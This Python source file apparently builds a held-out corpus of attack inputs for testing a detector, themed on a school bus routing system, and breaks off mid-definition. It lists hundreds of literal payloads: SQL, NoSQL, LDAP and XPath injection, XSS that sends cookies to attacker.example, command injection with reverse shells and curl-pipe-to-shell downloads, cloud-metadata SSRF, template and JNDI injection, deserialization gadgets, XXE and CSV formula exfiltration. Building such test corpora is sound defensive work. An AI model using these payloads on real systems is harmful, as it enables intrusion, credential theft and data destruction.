#!/usr/bin/env python3
"""Attack held-out corpus for the schoolbus theme."""
import json
import os
import random

SEED = 30502
rng = random.Random(SEED)
HERE = os.path.dirname(os.path.abspath(__file__))

ROWS = []  # (category, class, value, literal?)


def add(cat, cls, vals):
    for v in vals:
        ROWS.append((cat, cls, v, True))


# ---------------- sqli ----------------
add("sqli", "union", [
    "Maple & 3rd' UNION SELECT driver_id,cdl_number,ssn FROM drivers-- -",
    "14' union all select null,username,password_hash,null from staff_users#",
    "Route 7') UNION SELECT table_name,column_name FROM information_schema.columns WHERE table_schema=database()-- ",
    "0 UNION/**/SELECT/**/student_id,home_address,guardian_phone/**/FROM/**/students",
    "Oak Ridge Apts' UnIoN sElEcT 1,group_concat(stop_name,0x3a,lat),3 fROm stops-- x",
    "41 union distinct select @@version,user(),3-- -",
    "-1' UNION SELECT 1,load_file('/etc/passwd'),3,4-- -",
    "Calle Olmo')) union select name,sql from sqlite_master--",
    "99999 UNION SELECT string_agg(email||':'||pw,','),2 FROM parents--",
    "route12'/*!50000UNION*//*!50000SELECT*/1,2,3-- -",
    "Hillcrest%27%20UNION%20SELECT%20login,pass%20FROM%20dispatch_users--",
    "bus 33' union select 1,2,(select top 1 name from sysobjects where xtype='U')--",
])
add("sqli", "boolean", [
    "Birch Ln' OR '1'='1",
    "Route 14' or 7=7 -- ",
    "driver O'Brien' OR 'x'='x'#",
    "12 AND 1=1",
    "12 AND 1=2",
    "' or true-- ",
    "Pine & 5th\" or \"a\"=\"a",
    "admin'-- ",
    "dispatch')||('1'='1",
    "stop 2207' AND substring((select password from staff_users limit 1),1,1)='a'-- -",
    "41 AND ascii(substr((SELECT user()),1,1))>100",
    "bus' or 1 like 1-- -",
    "x' OR 2>1 LIMIT 1-- ",
    "Elm/2nd'||'1'<>'2",
])
add("sqli", "stacked", [
    "Route 25'; DROP TABLE route_stops;--",
    "9; UPDATE drivers SET cdl_exp='2099-01-01' WHERE 1=1--",
    "Lincoln Elem'; INSERT INTO staff_users(login,pw,role) VALUES('bus_ghost','x','admin');--",
    "55'; EXEC master..xp_cmdshell 'whoami';--",
    "count=52; delete from ridership where route_id=14;--",
    "Oak'; TRUNCATE gps_pings; --",
    "1;shutdown--",
    "route 3'; COPY (SELECT '') TO PROGRAM 'id';--",
])
add("sqli", "time-blind", [
    "Maple & 3rd' AND SLEEP(6)-- -",
    "14 AND (SELECT 4410 FROM (SELECT(SLEEP(8)))q)",
    "Route 7'; WAITFOR DELAY '0:0:7'--",
    "12' AND 1=(SELECT 1 FROM pg_sleep(9))--",
    "bus 41' || pg_sleep(5) || '",
    "x' AND BENCHMARK(9000000,SHA1('bus'))-- ",
    "Hwy 9' and if(substr(database(),1,1)='t',sleep(5),0)-- -",
    "stop' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',8)-- ",
    "22 OR (SELECT CASE WHEN (1=1) THEN pg_sleep(6) ELSE pg_sleep(0) END)",
    "Cherry Ct'/**/AnD/**/SlEeP(5)#",
])
add("sqli", "error-based", [
    "Oak Ridge' AND extractvalue(1,concat(0x7e,(select version())))-- -",
    "14' and updatexml(null,concat(0x3a,(select user())),null)-- ",
    "1' AND 1=CONVERT(int,(SELECT TOP 1 login FROM staff_users))--",
    "7' AND CAST((SELECT password FROM staff_users LIMIT 1) AS int)-- ",
    "bus' and (select 1 from(select count(*),concat((select database()),floor(rand(0)*2))x from information_schema.tables group by x)a)-- -",
    "x' AND 1=ctxsys.drithsx.sn(1,(select user from dual))--",
])
add("sqli", "order-by-injection", [
    "stop_seq ASC, (SELECT CASE WHEN (SELECT substr(pw,1,1) FROM staff_users LIMIT 1)='a' THEN arrive ELSE stop_name END)",
    "arrive,(select sleep(4))",
    "1,IF((SELECT count(*) FROM drivers)>40,stop_name,arrive)",
    "route_id desc limit 1 procedure analyse(extractvalue(1,concat(0x7e,version())),1)",
])
add("sqli", "encoded", [
    "Maple%2527%2520OR%25201%253D1--%2520",
    "14%bf%27 OR 1=1-- -",
    "Route 5＇ ＵＮＩＯＮ ＳＥＬＥＣＴ 1,2-- ",
    "Oak&#39; OR &#39;1&#39;=&#39;1",
    "stop\\u0027 OR 1=1--",
    "bus%u0027%u0020or%u00201%3d1--",
    "0x27206f7220313d312d2d",
    "SeLeCt/*bus*/password/*x*/FrOm/*y*/staff_users",
    "41'%0bOR%0b1=1--",
    "route%00' UNION SELECT 1,2-- ",
])

# ---------------- xss ----------------
add("xss", "script-tag", [
    "Maple & 3rd<script>fetch('https://attacker.example/c?'+document.cookie)</script>",
    "Route 14 late</textarea><script>new Image().src='//attacker.example/k?c='+encodeURIComponent(document.cookie)</script>",
    "<ScRiPt src=//attacker.example/b.js></sCrIpT>",
    "Dear parent, <script>document.location='https://attacker.example/phish?'+localStorage.getItem('token')</script>",
    "</title><script>alert(document.domain)</script>",
    "<script>navigator.sendBeacon('https://attacker.example/x',JSON.stringify(sessionStorage))</script>",
    "bus 41<script/x>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS9hJyk='))</script>",
    "<script\n>top['al'+'ert'](1)</script\n>",
])
add("xss", "event-handler", [
    "Oak Ridge Apts<img src=x onerror=\"fetch('//attacker.example/?c='+document.cookie)\">",
    "<svg onload=alert(document.cookie)>",
    "Incident: <body onpageshow=location='//attacker.example/'+document.cookie>",
    "<details open ontoggle=import('//attacker.example/m.js')>",
    "Driver note <img src=1 oNeRrOr=confirm`1`>",
    "<input autofocus onfocus=eval(name)>",
    "<video><source onerror=\"javascript:alert(1)\">",
    "<marquee onstart=alert(document.domain)>Route 5</marquee>",
    "<div style=\"width:100%;height:100%;position:fixed\" onmouseover=\"location='https://attacker.example'\">x</div>",
    "<audio src onerror=window['ev'+'al'](atob('YWxlcnQoMSk='))>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "Pine & 5th<iframe srcdoc=\"<img src=x onerror=parent.alert(1)>\"></iframe>",
    "<select autofocus onfocus=alert(1)>",
    "<svg/onload=setTimeout`alert\\x28document.cookie\\x29`>",
    "<style onload=alert(1)></style>",
    "<object data=x onerror=alert(1)>",
])
add("xss", "attribute-breakout", [
    "Route 7\" onmouseover=\"alert(document.cookie)",
    "Cherry Ct' autofocus onfocus='fetch(`//attacker.example/${document.cookie}`)' x='",
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    "stop name\" style=\"background:url(javascript:alert(1))",
    "bus12\"/><script>alert(1)</script>",
    "\" accesskey=\"x\" onclick=\"alert(1)\" x=\"",
    "x\" onanimationstart=\"alert(1)\" style=\"animation-name:spin",
])
add("xss", "js-uri", [
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:fetch('//attacker.example/'+document.cookie)",
    "java\tscript:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "<a href=\"javascript&colon;alert(1)\">View route map</a>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<a href=\"jav&#x09;ascript:alert(document.domain)\">Bus tracker</a>",
    "[Route 14 map](javascript:alert(document.cookie))",
    "<iframe src=\"javascript:alert(parent.document.cookie)\"></iframe>",
    "vbscript:msgbox(1)",
    "<form action=javascript:alert(1)><button>Confirm stop</button></form>",
    "<math><a xlink:href=\"javascript:alert(1)\">click</a></math>",
])
add("xss", "encoded", [
    "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
    "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\\x3csvg onload=alert(1)\\x3e",
    "＜script＞alert(1)＜/script＞",
    "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
    "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<img src=x onerror=\\u0061lert(1)>",
])
add("xss", "dom-template", [
    "{{constructor.constructor('alert(document.cookie)')()}}",
    "<div ng-app ng-csp><input ng-focus=$event.view.alert(1) autofocus></div>",
    "#\"><img src=/ onerror=alert(location.hash)>",
    "<x v-on:click=\"_c.constructor('alert(1)')()\">click</x>",
    "<base href=\"//attacker.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">",
    "<link rel=import href=//attacker.example/x.html>",
    "<embed src=//attacker.example/x.swf>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><script href=data:,alert(1) />",
    "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
    "<template><img src=x onerror=alert(1)></template><script>document.body.append(document.querySelector('template').content)</script>",
    "<table background=\"javascript:alert(1)\">",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
])

# ---------------- cmdi ----------------
add("cmdi", "separator", [
    "route14.csv; cat /etc/passwd",
    "bus41_0905_pm.mp4 && curl -s https://attacker.example/i.sh | sh",
    "stops.gpx | nc 203.0.113.9 4444 -e /bin/sh",
    "routes_tier1.csv || wget -qO- http://198.51.100.23/x|bash",
    "IMG_4410.jpg; rm -rf /var/www/uploads/*",
    "route_sheet.pdf\nid",
    "export.csv%0acat%20/etc/shadow",
    "bus 33 & ping -n 5 203.0.113.4 &",
    "drivers_2024-09.csv;uname${IFS}-a",
    "9.0.0.1; bash -i >& /dev/tcp/203.0.113.50/9001 0>&1",
    "roster.csv|powershell -nop -c \"iwr https://attacker.example/p.ps1|iex\"",
    "stop.kml & type C:\\Windows\\win.ini",
    "x.gpx;nslookup $(whoami).attacker.example",
    "breadcrumbs.gpx\r\nsleep 10",
    "route.csv;{cat,/etc/hostname}",
    "map.png;curl${IFS}attacker.example/$(id|base64)",
    "\";/bin/sh -c 'id>/tmp/o';\"",
    "'; python3 -c 'import os;os.system(\"id\")' #",
])
add("cmdi", "substitution", [
    "Route $(whoami)",
    "bus`id`",
    "stop_$(curl -s attacker.example/s|sh).csv",
    "Maple `cat /etc/passwd | nc attacker.example 80`",
    "report-$(sleep 7).pdf",
    "$(printf '\\x69\\x64')",
    "${IFS}cat${IFS}/etc/passwd",
    "$( echo Y3VybCBhdHRhY2tlci5leGFtcGxl | base64 -d | sh )",
    "GPS unit `wget -O /tmp/a http://198.51.100.7/a && chmod +x /tmp/a && /tmp/a`",
    "trip_<(id).txt",
    "$(dig +short $(hostname).attacker.example)",
    "note: `ls -la ~`",
    "{{route}}`uname`",
    "bus_12;$'\\x63\\x61\\x74' /etc/passwd",
])
add("cmdi", "argument-injection", [
    "--output=/var/www/html/shell.php",
    "-oProxyCommand=curl attacker.example/x|sh",
    "--exec=id",
    "-o /etc/cron.d/bus route14.csv",
    "route.pdf --checkpoint=1 --checkpoint-action=exec=sh /tmp/x",
    "-e /bin/sh 203.0.113.2 443",
    "--upload-pack=touch /tmp/pwn",
    "gpx.zip -T -TT 'sh -c id'",
    "x -exec /bin/sh -c id ;",
    "--config=/dev/stdin <<< 'url=file:///etc/passwd'",
])
add("cmdi", "obfuscated", [
    "route14.csv;c'a't /e\"t\"c/pa??wd",
    "stop;/???/c?t /???/p??s??",
    "bus;w\\h\\o\\a\\m\\i",
    "x;$(rev<<<'di')",
    "csv;a=c;b=at;$a$b /etc/passwd",
    "a;{echo,Y2F0IC9ldGMvcGFzc3dk}|{base64,-d}|sh",
    "x;cat$u /etc$u/passwd$u",
    "r.csv;tr '[a-z]' '[n-za-m]' <<< 'vq' | sh",
    "export.csv%3Bid",
    "gpx%26%26whoami",
    "map;`echo aWQ= |base64 -d`",
    "roster|c\\at /e\\tc/sha\\dow",
    "x;/bin/ba\"\"sh -c 'id'",
    "bus${PATH:0:1}etc${PATH:0:1}passwd;cat ${HOME:0:1}etc/passwd",
    "ticket;cmd /c \"set a=who&& set b=ami&& call %a%%b%\"",
    "x&for /f %i in ('whoami') do nslookup %i.attacker.example",
    "r.pdf;powershell -enc dwBoAG8AYQBtAGkA",
    "stop.txt;IFS=,;`cat<<<uname,-a`",
    "a;perl -e 'system(\"id\")'",
    "x;php -r 'system(\"id\");'",
])

# ---------------- traversal ----------------
add("traversal", "dotdot", [
    "../../../../etc/passwd",
    "route_sheets/../../../../../etc/shadow",
    "exports/2024-09-03/../../../../proc/self/environ",
    "..\\..\\..\\..\\windows\\win.ini",
    "route14.csv/../../../../../../var/lib/mysql/mysql/user.MYD",
    "../../../config/database.yml",
    "../../.env",
    "templates/letters/../../../../root/.ssh/id_rsa",
    "....//....//....//etc/passwd",
    "..././..././..././etc/hosts",
    "/var/www/app/uploads/../../../../etc/passwd",
    "..\\..\\..\\inetpub\\wwwroot\\web.config",
    "IMG_4410.jpg/../../../../../proc/self/cmdline",
    "..;/..;/..;/WEB-INF/web.xml",
    "../../../../../../home/dispatch/.bash_history",
    "letters/es/../../../../../app/settings.py",
    "../../../../var/log/nginx/access.log",
    "..//..//..//..//etc//passwd",
    "bus41_0905_pm.mp4/../../../../../etc/group",
    "..\\/..\\/..\\/etc/passwd",
])
add("traversal", "encoded", [
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%2f..%2f..%2f..%2fetc%2fshadow",
    "%2e%2e/%2e%2e/%2e%2e/proc/self/environ",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "..%e0%80%af..%e0%80%afetc/passwd",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd",
    "．．／．．／．．／etc／passwd",
    "..%252f..%252f..%252fconfig%252fdatabase.yml",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%255c..%255c..%255cboot.ini",
])
add("traversal", "absolute", [
    "/etc/passwd",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "file:///etc/passwd",
    "/proc/self/fd/7",
    "\\\\203.0.113.8\\share\\payload.dll",
    "/etc/passwd%00.csv",
    "../../../../etc/passwd\\u0000route14.gpx",
    "php://filter/convert.base64-encode/resource=../config.php",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "zip://uploads/route_export.zip%23../../shell.php",
    "C:/inetpub/wwwroot/../../Windows/win.ini",
    "/root/.aws/credentials",
    "phar://uploads/IMG_4410.jpg/x",
    "jar:file:///opt/app/app.jar!/application.properties",
])

# ---------------- ssrf ----------------
add("ssrf", "cloud-metadata", [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1/?recursive=true",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.170.2/v2/credentials",
    "http://169.254.169.254/latest/user-data",
])
add("ssrf", "internal-host", [
    "http://127.0.0.1:8080/admin/routes/delete?id=all",
    "http://localhost:6379/",
    "http://10.0.4.12:9200/_cat/indices",
    "http://192.168.1.1/cgi-bin/luci",
    "http://172.17.0.1:2375/containers/json",
    "http://routing-engine.internal:5000/api/export?all=1",
    "http://localhost/server-status",
    "https://127.0.0.1:8443/actuator/env",
    "http://kubernetes.default.svc/api/v1/namespaces/default/secrets",
    "http://avl-gateway:8081/config/reset",
    "http://10.10.0.5:8500/v1/kv/?recurse",
    "http://0.0.0.0:22/",
])
add("ssrf", "ip-obfuscation", [
    "http://2130706433/admin",
    "http://0x7f000001/",
    "http://0177.0.0.1/",
    "http://127.1/",
    "http://[::ffff:127.0.0.1]/",
    "http://[::1]:8080/",
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "http://①②⑦.⓪.⓪.①/",
    "http://127.0.0.1.attacker.example/",
])
add("ssrf", "parser-confusion", [
    "http://maps.district.example.org@127.0.0.1/admin",
    "https://attacker.example#@maps.district.example.org/",
    "http://127.0.0.1\\@maps.district.example.org/",
    "http://maps.district.example.org.attacker.example/routes.kml",
    "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/",
    "http://rebind.attacker.example:8080/api/internal",
    "http://localhost%2523@maps.district.example.org/",
    "http://127.0.0.1:80\\t@maps.district.example.org/",
])
add("ssrf", "scheme", [
    "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*/1%20*%20*%20*%20*%20curl%20attacker.example|sh%5Cn%22%0D%0ASAVE%0D%0A",
    "dict://127.0.0.1:11211/stats",
    "file:///proc/self/environ",
    "ldap://127.0.0.1:389/%0astats",
    "tftp://203.0.113.5/route.kml",
])

# ---------------- code ----------------
add("code", "ssti", [
    "Dear {{guardian}}, {{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('curl attacker.example/s|sh').read() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c(['id'],stdout=-1).communicate() }}{% endif %}{% endfor %}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}",
    "Route ${T(java.lang.Runtime).getRuntime().exec('id')}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "#set($r=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))$r",
    "{{7*'7'}} {{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
    "<%= `id` %>",
    "<%= system('cat /etc/passwd') %>",
    "{php}system('id');{/php}",
    "{{['id']|filter('system')}}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "{{#with \"s\" as |string|}}{{#with string.constructor}}{{#with (bind this \"return process.mainModule.require('child_process').execSync('id')\")}}{{this}}{{/with}}{{/with}}{{/with}}",
    "#{7*7}#{''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}",
    "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}",
    "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
    "{{= global.process.mainModule.require('child_process').execSync('id') }}",
])
add("code", "expression-language", [
    "${jndi:ldap://attacker.example:1389/bus}",
    "${${lower:j}ndi:${lower:l}dap://203.0.113.12/a}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/x}",
    "Route 14 ${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}",
    "${j${k8s:k5:-ND}i:ldaps://198.51.100.44/o}",
    "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap://attacker.example/z}",
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "${@java.lang.Runtime@getRuntime().exec(\"id\")}",
    "${pageContext.request.getSession().setAttribute(\"admin\",true)}",
    "${\"\".getClass().forName(\"java.lang.Runtime\").getMethods()[6].invoke(null).exec(\"id\")}",
    "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fe%7D",
    "${jnd${upper:ı}:ldap://attacker.example/t}",
    "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
    "${base64:JHtqbmRpOmxkYXA6Ly9hdHRhY2tlci5leGFtcGxlL2F9}",
])
add("code", "eval-injection", [
    "__import__('os').system('curl attacker.example/x|sh')",
    "require('child_process').exec('nc 203.0.113.3 4444 -e /bin/sh')",
    "'; eval(compile('import os;os.system(\"id\")','x','exec')); '",
    "\";system('id');//",
    "1;phpinfo();",
    "exec(\"import socket,subprocess;s=socket.socket();s.connect(('203.0.113.60',443));subprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno())\")",
    "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],stdio:[]})",
    "Runtime.getRuntime().exec(\"curl attacker.example\")",
    "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));",
    "(function(){return this})().process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')",
    "assert($_GET['c']);",
    "open('|id').read",
    "`id`.to_s + Kernel.exec('id')",
    "globals()['__builtins__']['__import__']('subprocess').check_output(['id'])",
])
add("code", "prototype-pollution", [
    "{\"__proto__\":{\"isAdmin\":true}}",
    "{\"constructor\":{\"prototype\":{\"role\":\"transport_admin\"}}}",
    "route[__proto__][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//",
    "{\"settings\":{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}}",
    "__proto__.polluted=1",
    "constructor[prototype][allowAll]=true",
    "{\"stop\":\"Oak\",\"__proto__\":{\"sourceURL\":\"\\u000areturn process.mainModule.require('child_process').execSync('id')//\"}}",
])
add("code", "csv-formula", [
    "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Route 14 map\")",
    "=cmd|' /C calc'!A0",
    "+cmd|'/c powershell iwr attacker.example/r.ps1|iex'!'A1'",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=WEBSERVICE(\"https://attacker.example/l?\"&ENCODEURL(C2))",
    "Maple & 3rd\",\"=IMPORTXML(CONCAT(\"https://attacker.example/?\",A1:C40),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "\t=1+1|cmd",
    "=IMAGE(\"https://attacker.example/p.png?\"&B2)",
    "0x0D=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
])
add("code", "xxe", [
    "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><route><name>&x;</name></route>",
    "<!DOCTYPE gpx [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]><gpx><trk/></gpx>",
    "<?xml version=\"1.0\"?><!DOCTYPE kml [<!ENTITY s SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><kml><Placemark><name>&s;</name></Placemark></kml>",
    "<!DOCTYPE x [<!ENTITY % f SYSTEM \"file:///etc/hostname\"><!ENTITY % w \"<!ENTITY &#x25; e SYSTEM 'http://attacker.example/?%f;'>\">%w;%e;]>",
    "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/passwd\"/>",
    "<!DOCTYPE stops [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]><stops>&c;&c;&c;</stops>",
    "<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE a SYSTEM \"http://203.0.113.77/x.dtd\"><a/>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\"><!DOCTYPE svg [<!ENTITY p SYSTEM \"php://filter/read=convert.base64-encode/resource=/etc/passwd\">]><text>&p;</text></svg>",
])
add("code", "deserialization", [
    "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
    "a:1:{i:0;O:20:\"RouteExport\\Uploader\":1:{s:4:\"path\";s:18:\"/var/www/shell.php\";}}",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvckk=",
    "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
    "cos\nsystem\n(S'id'\ntR.",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/o\",\"autoCommit\":true}",
    "!!python/object/apply:os.system [\"curl attacker.example|sh\"]",
    "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$values\":[\"cmd\",\"/c whoami\"]}}",
    "--- !ruby/object:Gem::Installer\ni: x\n",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "[\"java.util.logging.FileHandler\",{\"pattern\":\"/tmp/x\",\"append\":true}]",
])

# ---------------- nosqli ----------------
add("nosqli", "operator", [
    "{\"login\":\"dispatch\",\"password\":{\"$ne\":null}}",
    "{\"route_id\":{\"$gt\":\"\"}}",
    "password[$ne]=x",
    "login[$regex]=^adm&password[$exists]=true",
    "{\"$where\":\"sleep(5000) || true\"}",
    "{\"driver\":{\"$in\":[\"O'Brien\",{\"$ne\":1}]}}",
    "bus[$nin][]=0",
    "{\"stop\":{\"$regex\":\".*\",\"$options\":\"si\"}}",
    "{\"$or\":[{\"role\":\"admin\"},{\"_id\":{\"$exists\":true}}]}",
    "pw[$gt]=",
    "{\"student_id\":{\"$where\":\"this.ssn.match(/^1/)\"}}",
    "{\"$expr\":{\"$function\":{\"body\":\"function(){sleep(4000);return true}\",\"args\":[],\"lang\":\"js\"}}}",
    "{\"token\":{\"$regex\":\"^a\"}}",
    "username=admin&password[%24ne]=1",
    "{\"$lookup\":{\"from\":\"staff_users\",\"localField\":\"x\",\"foreignField\":\"x\",\"as\":\"leak\"}}",
])
add("nosqli", "js-injection", [
    "Maple'; return true; var x='",
    "14'||'a'=='a",
    "'; while(true){}; '",
    "0;this.password.length>0",
    "x' && this.role=='admin' && '1'=='1",
    "'||db.getCollectionNames().length>0||'",
    "\";sleep(6000);var y=\"",
    "Route 5' || this.guardian_phone != null || '",
    "function(){return Object.keys(this).length>0}",
    "bus\\u0027;return/**/1;//",
    "';db.drivers.drop();'",
    "{\"$where\":\"function(){var d=new Date();while(new Date()-d<5000);return 1}\"}",
])

# ---------------- crlf ----------------
add("crlf", "log-forging", [
    "Route 14 late\n2024-09-03 06:30:01 INFO user=admin action=route_delete route=all status=OK",
    "bus 41\r\n[AUTH] login success user=transport_director ip=10.0.0.5",
    "Maple & 3rd%0d%0a2024-09-03T07:00:00Z WARN gps unit 3317 tamper cleared by supervisor",
    "stop 2207%0a[INFO] Incident #2024-0913-07 closed: no fault",
    "Oak\u2028INFO driver_id=1023 cdl_verified=true",
    "x%E5%98%8A%E5%98%8DLEVEL=INFO msg=audit disabled",
])
add("crlf", "header-injection", [
    "en%0d%0aSet-Cookie:%20session=attacker_fixed_123;%20Path=/",
    "es\r\nLocation: https://attacker.example/login",
    "/routes/14%0D%0AX-Forwarded-For:%20127.0.0.1",
    "ok\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true",
    "route.csv\"\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "vi%0d%0aRefresh:0;url=https://attacker.example/",
    "%E5%98%8D%E5%98%8ASet-Cookie:role=admin",
    "lang=fr%0d%0aContent-Security-Policy:%20script-src%20*",
])
add("crlf", "response-splitting", [
    "next=/dashboard%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>",
    "/tracker\r\n\r\n<html><body>Bus tracker moved: <a href=https://attacker.example>click</a></body></html>",
    "%0d%0a%0d%0a<svg onload=alert(document.domain)>",
    "route=5%0A%0AHTTP/1.1 302 Found%0ALocation: https://attacker.example/",
])
add("crlf", "mail-header", [
    "parent@mail.example\r\nBcc: everyone@district.example.org,list@attacker.example",
    "Route change notice\nCc: phish@attacker.example\nX-Priority: 1",
    "transport@district.example.org%0ABcc:%20harvest@attacker.example",
    "Field trip approved\r\nContent-Type: text/html\r\n\r\n<a href='https://attacker.example/pay'>Pay trip fee</a>",
    "Ms. Lopez <lopez@mail.example>\r\nReply-To: refunds@attacker.example",
    "Bus 12 late%0d%0aSubject:%20URGENT%20update%20your%20password",
])
add("crlf", "csv-row-injection", [
    "Maple & 3rd\n99,1,Fake Stop,06:00\n",
    "Oak Ridge\",\"07:02\"\r\n\"14\",\"0\",\"=HYPERLINK(\"\"https://attacker.example\"\")\",\"06:00",
    "O'Brien\n1099,\"Ghost, Driver\",41,2099-12-31",
    "52\r\n14,2024-09-04,999,999",
    "Pine;06:48\nadmin;reset;all",
    "Hillcrest\",\"0\"\n\"22\",\"@SUM(1)|cmd\",\"x",
])

# ---------------- ldap-xpath ----------------
add("ldap-xpath", "ldap", [
    "*)(uid=*))(|(uid=*",
    "dispatch)(|(password=*)",
    "admin*)((|userPassword=*)",
    "O'Brien*)(objectClass=*",
    "*)(&(objectClass=user)(memberOf=cn=TransportAdmins,ou=Groups,dc=district,dc=local)",
    "jdoe)(|(cn=*))%00",
    "\\2a)(uid=\\2a",
    "x)(!(cn=nobody)",
    "*))(|(description=*bus*",
    "smith)(employeeNumber>=0",
])
add("ldap-xpath", "xpath", [
    "' or '1'='1",
    "Route 14'] | //driver/cdl_number | //*['",
    "x' or name()='password' or 'a'='b",
    "') or count(//user)>0 or ('",
    "1 or 1=1",
    "'] | //staff[role='admin']/password | a['",
    "' and string-length(//user[1]/pass)>5 and ''='",
    "x' or substring(//user[position()=1]/pw,1,1)='a' or 'x'='y",
    "doc('http://attacker.example/x')//a",
    "')]|//*|//*[('",
])

# ---------------- generated (non-literal) part ----------------
PREFIX = {
